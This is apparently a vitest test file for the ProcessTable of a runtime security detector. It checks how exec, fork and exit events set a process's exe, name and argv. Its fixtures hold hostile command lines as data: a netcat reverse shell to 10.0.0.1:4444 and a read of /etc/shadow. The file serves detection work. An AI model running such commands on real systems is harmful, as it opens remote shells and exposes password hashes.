/**
 * The process table's view of an exec: `exe` is the file that runs (the kernel's mm->exe_file from
 * process.exec), `name` what the program is called, and the syscall.execve of the same exec (no
 * exe of its own) does not undo what process.exec said.
 */
import { describe, expect, it } from 'vitest';
import { ProcessTable } from '@boxwatch/detector';
import { ev } from '../helpers/events.js';

const procExec = (fields: object, pid = 100) => ev('process.exec', { argv_truncated: false, ppid: 1, uid: 0, ns_pid: 7, tty: 0, interpreter: null, ...fields }, { pid, comm: 'x' });
const execve = (filename: string, argv: string[], pid = 100) => ev('syscall.execve', { filename, argv, ret: 0 }, { pid, comm: 'x' });

describe('ProcessTable exe and name', () => {
  it('a busybox applet run through /proc/self/exe is named by argv[0] and runs /bin/busybox, also after its syscall.execve', () => {
    const t = new ProcessTable();
    t.observe(procExec({ filename: '/proc/self/exe', exe: '/bin/busybox', argv: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] }));
    t.observe(execve('/proc/self/exe', ['nc', '-e', '/bin/sh', '10.0.0.1', '4444']));
    expect(t.get(100)).toMatchObject({ exe: '/bin/busybox', name: 'nc' });
  });

  it('a symlinked applet keeps its own name; its exe is the target', () => {
    const t = new ProcessTable();
    t.observe(procExec({ filename: '/bin/cat', exe: '/bin/busybox', argv: ['cat', '/etc/shadow'] }));
    expect(t.get(100)).toMatchObject({ exe: '/bin/busybox', name: 'cat' });
  });

  it('a #! script is the program: exe and name are the script, not its interpreter', () => {
    const t = new ProcessTable();
    t.observe(procExec({ filename: '/usr/lib/cgi-bin/run.sh', exe: '/bin/busybox', interpreter: '/bin/sh', argv: ['/bin/sh', '/usr/lib/cgi-bin/run.sh'] }));
    t.observe(execve('/usr/lib/cgi-bin/run.sh', ['/usr/lib/cgi-bin/run.sh']));
    expect(t.get(100)).toMatchObject({ exe: '/usr/lib/cgi-bin/run.sh', name: 'run.sh' });
  });

  it('without a kernel exe (exe: null) the path exec\'d is the exe; a stream of syscall.execve only says the same', () => {
    const t = new ProcessTable();
    t.observe(procExec({ filename: '/usr/bin/curl', exe: null, argv: ['curl'] }));
    expect(t.get(100)).toMatchObject({ exe: '/usr/bin/curl', name: 'curl' });
    const only = new ProcessTable();
    only.observe(execve('/usr/bin/wget', ['wget']));
    expect(only.get(100)).toMatchObject({ exe: '/usr/bin/wget', name: 'wget', argv: ['wget'] });
  });

  it('a later exec of another file replaces the kernel exe', () => {
    const t = new ProcessTable();
    t.observe(procExec({ filename: '/bin/sh', exe: '/bin/busybox', argv: ['sh'] }));
    t.observe(procExec({ filename: '/tmp/x', exe: '/tmp/x', argv: ['x'] }));
    expect(t.get(100)).toMatchObject({ exe: '/tmp/x', name: 'x' });
  });

  it('in kernel order the syscall.execve (stamped at entry, the caller\'s comm) comes first: the process.exec after it says what runs', () => {
    const t = new ProcessTable();
    t.observe(procExec({ filename: '/bin/sh', exe: '/bin/busybox', argv: ['sh'] }));
    t.observe(ev('syscall.execve', { filename: '/bin/mkdir', argv: ['mkdir', '/tmp/d'], ret: 0 }, { pid: 100, comm: 'sh' }));
    expect(t.get(100)).toMatchObject({ name: 'sh', argv: ['sh'], comm: 'x' });
    t.observe(ev('process.exec', { filename: '/bin/mkdir', exe: '/bin/busybox', interpreter: null, argv: ['mkdir', '/tmp/d'], argv_truncated: false, ppid: 1, uid: 0, ns_pid: 7, tty: 0 }, { pid: 100, comm: 'mkdir' }));
    expect(t.get(100)).toMatchObject({ exe: '/bin/busybox', name: 'mkdir', comm: 'mkdir', argv: ['mkdir', '/tmp/d'] });
  });
});

describe('ProcessTable fork of a reused pid', () => {
  const fork = (parent: number, child: number) => ev('process.fork', { child_pid: child, ppid: 1 }, { pid: parent, comm: 'httpd' });

  it('a forked child is its parent\'s copy, not the earlier process that had its pid and whose exit was lost', () => {
    const t = new ProcessTable();
    t.observe(procExec({ filename: '/bin/sed', exe: '/bin/busybox', argv: ['sed', 's/a/b/'] }, 200));
    t.observe(procExec({ filename: '/bin/httpd', exe: '/bin/busybox', argv: ['httpd', '-f'] }, 300));
    t.observe(fork(300, 200));
    expect(t.get(200)).toMatchObject({ name: 'httpd', argv: ['httpd', '-f'], ppid: 300 });
  });

  it('keeps what the child\'s own events taught before its fork arrived (another plugin\'s ring buffer)', () => {
    const t = new ProcessTable();
    t.observe(procExec({ filename: '/bin/httpd', exe: '/bin/busybox', argv: ['httpd', '-f'] }, 300));
    t.observe(ev('net.connect', { daddr: '10.1.2.3', dport: 80 }, { pid: 200, comm: 'httpd' }));
    t.observe(fork(300, 200));
    expect(t.get(200)).toMatchObject({ name: 'httpd', has_outbound_connection: true, outbound_peers: ['10.1.2.3:80'] });
  });
});

describe('ProcessTable reports made after the fact', () => {
  it('a syscall.count or net.flow of a process that exited does not bring it back', () => {
    const t = new ProcessTable();
    t.observe(procExec({ filename: '/bin/ls', exe: '/bin/busybox', argv: ['ls'] }, 400));
    expect(t.observe(ev('syscall.count', { syscall: 'read', count: 3, interval_ms: 1000 }, { pid: 400, comm: 'ls' }))).toMatchObject({ name: 'ls' });
    t.observe(ev('process.exit', { exit_code: 0, signal: 0, core_dumped: false }, { pid: 400, comm: 'ls' }));
    expect(t.observe(ev('syscall.count', { syscall: 'read', count: 3, interval_ms: 1000 }, { pid: 400, comm: 'ls' }))).toBeNull();
    expect(t.observe(ev('net.flow', { proto: 'tcp', bytes_sent: 1 }, { pid: 400, comm: 'ls' }))).toBeNull();
    expect(t.size).toBe(0);
  });
});
